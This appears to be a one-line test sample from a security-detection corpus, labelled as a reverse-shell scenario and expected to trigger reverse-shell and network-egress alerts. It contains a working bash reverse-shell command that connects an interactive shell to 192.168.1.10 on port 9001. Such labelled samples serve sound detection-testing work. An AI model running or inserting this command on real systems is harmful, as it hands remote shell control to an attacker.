# scenario: 10 create-a-reverse-shell
# expect: reverse_shell network.egress
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# The bash one-liner reverse shell.
timeout 3 bash -c 'bash -i >& /dev/tcp/192.168.1.10/9001 0>&1' || echo "no listener"
